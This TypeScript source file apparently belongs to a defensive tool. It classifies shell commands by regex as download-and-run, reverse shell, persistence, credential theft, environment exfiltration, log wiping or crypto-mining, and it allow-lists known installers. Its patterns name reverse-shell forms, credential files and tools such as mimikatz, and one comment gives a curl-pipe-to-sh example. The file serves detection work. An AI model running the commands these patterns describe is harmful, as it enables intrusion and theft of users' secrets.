/**
 * What a text for a shell does, as far as its form says: whether it downloads and runs, decodes and runs, opens
 * a shell to the outside, stays behind, or takes credentials along.
 *
 *   curl -s https://x.io/a | sh           [{ what: "download-and-run", text: "curl -s https://x.io/a | sh" }]
 *
 * Texts of shells are recognised by form, not parsed. Each form is linear.
 */
export type TraitKind =
  | "download-and-run"
  | "decode-and-run"
  | "reverse-shell"
  | "persistence"
  | "credentials"
  | "environment"
  | "cover-up"
  | "mining";

/** What a command with the trait does, for a sentence that begins with the command. */
export const TRAIT_SENTENCES: Readonly<Record<TraitKind, string>> = {
  "download-and-run": "downloads code and runs it",
  "decode-and-run": "runs code that it decodes first",
  "reverse-shell": "opens a shell to another host",
  persistence: "installs something that stays",
  credentials: "reads credentials of the user",
  environment: "sends the environment to another host",
  "cover-up": "removes traces",
  mining: "runs a miner",
};

export interface Trait {
  readonly what: TraitKind;
  /** The part of the text that shows it. */
  readonly text: string;
  /** A well-known project's own way of installing, over https. */
  readonly known?: boolean;
}

const FETCH = String.raw`(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b[^|;&\n]{0,400}`;
/** A shell or interpreter that runs what it is given on its input; with a script or program of its own it does not. */
const SHELL = String.raw`(?:sudo\s+(?:-\S+\s+)*)?(?:[\w/]*/)?(?:(?:ba|z|da|k|a)?sh\b(?!\s+(?:-\w*c\b|[\w./]+\.sh\b))|(?:python[\d.]*|node|perl|ruby|php|bun|deno|osascript)\b(?!\s+(?:-\w*[ecmnpr]\b|--eval\b|[\w./]+\.\w+))|(?:iex|Invoke-Expression)\b)`;
const form = (source: string): RegExp => new RegExp(source, "i");
const STORES = String.raw`(?:\.ssh/(?:id_\w+|\*|$|["'\s])|\.aws/credentials|\.gnupg|\.netrc|\.git-credentials|\.docker/config\.json|\.kube/config|gcloud/(?:credentials|application_default)|/etc/shadow|login\.keychain|Login Data|wallet\.dat|\.npmrc)`;

/** What shows a trait: its kind, words of which every match holds one in lower case, and the form. */
export const FORMS: readonly (readonly [TraitKind, readonly string[], RegExp])[] = [
  [
    "download-and-run",
    ["curl", "wget", "invoke-webrequest", "iwr", "invoke-restmethod", "irm"],
    form(String.raw`\b${FETCH}\|\s*(?:tac\s*\||tr\s[^|]{0,60}\||gunzip[^|]{0,20}\|)?\s*${SHELL}`),
  ],
  [
    "download-and-run",
    ["curl", "wget", "invoke-webrequest", "iwr", "invoke-restmethod", "irm"],
    form(
      String.raw`(?:^|[\s;&|"'(])(?:(?:ba|z|da)?sh|source|\.|eval|python[\d.]*|node)\s+(?:-\w+\s+)?["']?(?:<\(|\$\(|` +
        "`" +
        String.raw`)\s*${FETCH}`,
    ),
  ],
  [
    "download-and-run",
    ["iex", "invoke-expression"],
    form(
      String.raw`\b(?:iex|Invoke-Expression)\b[^\n]{0,80}(?:DownloadString|Invoke-WebRequest|iwr|irm|Invoke-RestMethod|https?://)`,
    ),
  ],
  [
    "download-and-run",
    ["curl", "wget"],
    form(
      String.raw`\b(?:curl|wget)\b[^\n]{0,300}(?:-o|-O|--output|>)\s*["']?(?<file>[\w./~$-]+)["']?[^\n]{0,200}(?:&&|;)\s*(?:sudo\s+)?(?:chmod\s\S{1,12}\s+["']?\k<file>|(?:ba|z)?sh\s+["']?\k<file>|python[\d.]*\s+["']?\k<file>|node\s+["']?\k<file>)`,
    ),
  ],
  [
    "download-and-run",
    ["http"],
    form(
      String.raw`\b(?:mshta|regsvr32[^\n]{0,40}/i:|rundll32(?![^\n]{0,20}\burl(?:\.dll)?[\s,]{1,3}(?:FileProtocolHandler|OpenURL)\b)[^\n]{0,60}|msiexec[^\n]{0,40}/i)\s*"?https?://`,
    ),
  ],
  [
    "download-and-run",
    ["certutil", "bitsadmin"],
    form(String.raw`\b(?:certutil[^\n]{0,40}-urlcache|bitsadmin[^\n]{0,40}/transfer)\b`),
  ],
  [
    "download-and-run",
    ["exec", "eval", "function"],
    form(
      String.raw`\b(?:python[\d.]*|node|ruby|perl)\s+-[ce]\s[^\n]{0,80}(?:urlopen|requests\.get|fetch\(|https?\.get)[^\n]{0,200}(?:exec|eval|Function)`,
    ),
  ],
  [
    "download-and-run",
    ["exec", "eval", "function"],
    form(
      String.raw`\b(?:python[\d.]*|node|ruby|perl)\s+-[ce]\s[^\n]{0,80}(?:exec|eval|Function)\s*\([^\n]{0,200}(?:urlopen|requests\.get|fetch\(|https?\.get)`,
    ),
  ],
  [
    "decode-and-run",
    ["base64"],
    form(String.raw`\bbase64\s+(?:-d|-D|--decode)\b[^|;&\n]{0,200}\|\s*(?:gunzip\s*\|\s*)?${SHELL}`),
  ],
  [
    "decode-and-run",
    ["base64"],
    form(
      String.raw`\b(?:eval|(?:ba|z)?sh\s+-c)\s+["']?(?:\$\(|` +
        "`" +
        String.raw`)[^\n]{0,400}\bbase64\s+(?:-d|-D|--decode)`,
    ),
  ],
  [
    "decode-and-run",
    ["powershell"],
    form(String.raw`\bpowershell(?:\.exe)?\b[^\n]{0,100}\s-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}`),
  ],
  [
    "decode-and-run",
    ["exec", "eval"],
    form(
      String.raw`\b(?:python[\d.]*|node|perl|ruby)\s+-[ce]\s[^\n]{0,120}(?:exec|eval)\s*\([^\n]{0,120}(?:b64decode|atob|base64)`,
    ),
  ],
  ["decode-and-run", ["xxd"], form(String.raw`\bxxd\s+-r\b[^|\n]{0,60}\|\s*${SHELL}`)],
  ["reverse-shell", ["/dev/"], form(String.raw`/dev/(?:tcp|udp)/[\w.$\{\}-]+/[\w$\{\}]+`)],
  [
    "reverse-shell",
    ["/bin/", "cmd", "powershell", "exec"],
    form(
      String.raw`\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^|;\n]{0,120}(?:-\w*[ec]\w*\s+["']?(?:/bin/|cmd|powershell)|--(?:sh-)?exec\b)`,
    ),
  ],
  [
    "reverse-shell",
    ["mkfifo"],
    form(String.raw`\bmkfifo\b[^\n]{0,200}\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b`),
  ],
  ["reverse-shell", ["socat"], form(String.raw`\bsocat\b[^\n]{0,200}\bexec:`)],
  ["reverse-shell", ["socket"], form(String.raw`\bsocket\b[^\n]{0,300}(?:dup2|pty\.spawn)`)],
  ["reverse-shell", ["net.sockets.tcpclient"], form(String.raw`\bNet\.Sockets\.TCPClient\b`)],
  [
    "persistence",
    ["crontab", "/etc/cron", "/var/spool/cron"],
    form(String.raw`\|\s*crontab\b|\bcrontab\s+(?!-[lu]\b)\S|/etc/cron(?:tab|\.\w+)\b|/var/spool/cron`),
  ],
  [
    "persistence",
    [
      ".bashrc",
      ".zshrc",
      ".zprofile",
      ".bash_profile",
      ".profile",
      "authorized_keys",
      "/etc/rc.local",
      "/etc/profile",
    ],
    form(
      String.raw`(?:>>?|\btee\s+(?:-a\s+)?)\s*["']?[^\s;|&]{0,80}(?:\.bashrc|\.zshrc|\.zprofile|\.bash_profile|\.profile|authorized_keys|/etc/rc\.local|/etc/profile)`,
    ),
  ],
  [
    "persistence",
    ["launchctl", "library/launch"],
    form(String.raw`\blaunchctl\s+(?:load|bootstrap|submit)\b|Library/Launch(?:Agents|Daemons)/`),
  ],
  [
    "persistence",
    ["systemctl", "/etc/systemd/system/", ".config/systemd/user/", ".config/autostart/"],
    form(
      String.raw`\bsystemctl\s+(?:--user\s+)?enable\b|/etc/systemd/system/|\.config/systemd/user/|\.config/autostart/`,
    ),
  ],
  [
    "persistence",
    ["schtasks", "\\run", "\\start menu\\programs\\startup"],
    form(
      String.raw`\bschtasks(?:\.exe)?\s+/create\b|\breg(?:\.exe)?\s+add\b[^\n]{0,200}\\Run(?:Once)?\b|\\Start Menu\\Programs\\Startup`,
    ),
  ],
  [
    "credentials",
    [
      ".ssh/",
      ".aws/credentials",
      ".gnupg",
      ".netrc",
      ".git-credentials",
      ".docker/config.json",
      ".kube/config",
      "gcloud/",
      "/etc/shadow",
      "login.keychain",
      "login data",
      "wallet.dat",
      ".npmrc",
    ],
    form(
      String.raw`\b(?:cat|cp|scp|tar|zip|type|base64|xxd|grep|curl|wget|rsync|Get-Content)\b[^\n]{0,200}${STORES}`,
    ),
  ],
  [
    "credentials",
    ["security", "mimikatz", "vaultcmd", "secretsdump"],
    form(
      // Without an option the dump of a keychain names its items, and holds none of their secrets.
      String.raw`\bsecurity\s+(?:dump-keychain\b(?!\s*(?:\||2?>))|find-(?:generic|internet)-password\b)|\bmimikatz\b|\bvaultcmd\b|\bsecretsdump\b`,
    ),
  ],
  [
    "environment",
    ["env", "printenv", "export", "set"],
    form(String.raw`\b(?:env|printenv|export\s+-p|set)\s*\|[^\n]{0,100}\b(?:curl|wget|nc|ncat|base64)\b`),
  ],
  [
    "environment",
    ["curl", "wget"],
    form(
      String.raw`\b(?:curl|wget)\b[^\n]{0,300}(?:-d|--data\S*|-F|--form|--post-data|-T|--upload-file)[ =]?["']?[^\n]{0,60}(?:\$\((?:env|printenv|export)|` +
        "`(?:env|printenv)`" +
        String.raw`|@[^\s"']{0,80}(?:\.env|\.npmrc|\.ssh|\.aws)\b|\$(?:\{)?(?:NPM_TOKEN|GITHUB_TOKEN|AWS_SECRET\w*|NODE_AUTH_TOKEN))`,
    ),
  ],
  [
    "environment",
    ["stringify", "process.env", "os.environ"],
    form(
      String.raw`\b(?:python[\d.]*|node|bun|deno|ruby|perl)\s+-[cepr]+\s[^\n]{0,400}(?:https?[.)'"]|fetch\(|requests\.|urlopen|net\.connect|dns\.)[^\n]{0,300}(?:stringify\s*\(\s*process\.env\s*[,)]|process\.env\s*[),;}]|(?:dict\(|str\()?os\.environ\s*[),;])`,
    ),
  ],
  [
    "environment",
    ["curl", "wget", "nslookup", "dig", "ping"],
    form(
      String.raw`\b(?:curl|wget|nslookup|dig|ping)\b[^\n]{0,200}\$\((?:whoami|hostname|id|env|printenv|uname)\b`,
    ),
  ],
  [
    "cover-up",
    ["history", "unset", "histfile=/dev/null", "histsize=0", "wevtutil", "clear-eventlog"],
    form(
      String.raw`(?:^|[;&|"']\s*)history\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null|\bHISTSIZE=0\b|\bwevtutil\s+cl\b|\bClear-EventLog\b`,
    ),
  ],
  [
    "cover-up",
    ["/var/log/", "_history"],
    form(
      String.raw`(?:\brm\s+(?:-\w+\s+)*|\bshred\s+(?:-\w+\s+)*|\btruncate\s+[^\n]{0,20}|(?:^|[;&|]\s*|\s):?\s*>\s*)["']?(?:/var/log/|[^\s;|&]{0,60}_history\b)`,
    ),
  ],
  [
    "mining",
    ["stratum+", "xmrig", "minerd", "cpuminer", "--donate-level", "cryptonight"],
    form(
      String.raw`stratum\+(?:tcp|ssl)://|\bxmrig\b|\bminerd\b|\bcpuminer\b|--donate-level|\bcryptonight\b`,
    ),
  ],
];

/** Installers that projects tell their users to run. */
const KNOWN_INSTALLERS =
  /https:\/\/(?:astral\.sh\/(?:uv|ruff)|sh\.rustup\.rs|deb\.nodesource\.com|rpm\.nodesource\.com|bun\.(?:sh|com)\/install|deno\.land\/|get\.docker\.com|install\.python-poetry\.org|get\.pnpm\.io|fnm\.vercel\.app|get\.volta\.sh|raw\.githubusercontent\.com\/(?:nvm-sh|Homebrew|helm|rustup|ohmyzsh|k3d-io)\/|get\.helm\.sh|cli\.github\.com|dl\.google\.com|packages\.microsoft\.com|aka\.ms\/|bootstrap\.pypa\.io|pypi\.org|claude\.ai\/install|fly\.io\/install|get\.sdkman\.io|mise\.run|mise\.jdx\.dev|starship\.rs|sentry\.io\/get-cli|download\.docker\.com|taskfile\.dev|just\.systems|dl\.yarnpkg\.com|yarnpkg\.com\/install|apt\.postgresql\.org|download\.pytorch\.org|cursor\.com\/install|ollama\.(?:com|ai)\/install|pkgx\.sh|get\.scoop\.sh|community\.chocolatey\.org|install\.duckdb\.org)/i;

const MAX_TEXT = 20_000;

/** What a shell text does that few honest ones do. */
export function traitsOf(command: string): readonly Trait[] {
  const text = command.slice(0, MAX_TEXT).replace(/\\\r?\n/g, " ");
  const lower = text.toLowerCase();
  const out: Trait[] = [];
  for (const [what, words, pattern] of FORMS) {
    // Most texts have none of the words, and are not worth compiling a pattern for.
    const match = words.some((word) => lower.includes(word)) ? pattern.exec(text) : null;
    if (match === null || out.some((each) => each.what === what)) continue;
    // A script of a fixed commit is what it was when it was looked at.
    if (what === "download-and-run" && /\/[0-9a-f]{40}\//.test(match[0])) continue;
    const known = what === "download-and-run" && KNOWN_INSTALLERS.test(match[0]);
    out.push({ what, text: match[0].trim(), ...(known ? { known } : {}) });
  }
  return out;
}
